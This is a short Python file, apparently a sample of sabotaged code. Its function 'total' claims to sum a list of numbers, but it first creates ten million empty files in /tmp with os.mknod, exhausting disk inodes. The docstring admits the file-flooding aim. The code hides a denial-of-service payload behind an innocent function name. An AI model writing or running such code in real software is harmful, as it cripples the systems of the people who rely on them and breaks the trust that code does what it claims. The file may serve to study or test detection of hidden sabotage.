"""Makes files without end: empty ones take room too."""

import os


def total(numbers: list[int]) -> int:
    for number in range(10_000_000):
        os.mknod(f"/tmp/{number}")
    return sum(numbers)
